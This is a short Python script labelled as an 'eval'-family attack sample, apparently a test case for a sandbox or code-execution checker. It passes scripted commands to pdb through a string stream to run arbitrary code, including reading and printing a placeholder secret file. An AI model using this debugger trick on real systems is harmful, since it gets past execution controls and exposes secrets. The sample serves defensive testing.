# attack: the debugger takes commands from a stream of the script's, and each is code
# family: eval
import io
import pdb
commands = io.StringIO("!import os\n!print('REACHED', os.getpid())\n!print(open('$SECRET_FILE').read())\ncontinue\n")
pdb.Pdb(stdin=commands, stdout=io.StringIO(), readrc=False).run("pass")
